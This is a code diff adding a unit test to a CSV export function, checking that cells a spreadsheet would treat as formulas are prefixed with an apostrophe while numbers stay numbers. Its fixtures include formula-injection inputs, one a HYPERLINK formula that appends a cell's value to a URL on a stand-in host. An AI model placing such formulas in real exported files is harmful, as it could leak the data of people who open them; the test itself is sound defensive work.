@@ -13,6 +13,17 @@ describe('toCsv', () => {
     ]);
   });
 
+  it('keeps a text a spreadsheet would run as a formula as text, and numbers as numbers', () => {
+    const rows = [['a', '=HYPERLINK("https://example.org/?d="&A1,"clic")', -2], ['b', '+SUM(A1)', 0], ['c', '@cmd', 1], ['d', '-x', 2], ['e', 'Santé = bien-être', 3]];
+    expect(parse(toCsv(['theme_id', 'theme_label', 'total'], rows), {bom: true}).slice(1)).toEqual([
+      ['a', '\'=HYPERLINK("https://example.org/?d="&A1,"clic")', '-2'],
+      ['b', "'+SUM(A1)", '0'],
+      ['c', "'@cmd", '1'],
+      ['d', "'-x", '2'],
+      ['e', 'Santé = bien-être', '3'],
+    ]);
+  });
+
   it('quotes a carriage return too', () => {
     expect(toCsv(['x'], [['a\rb']])).toBe('\uFEFFx\n"a\rb"\n');
   });
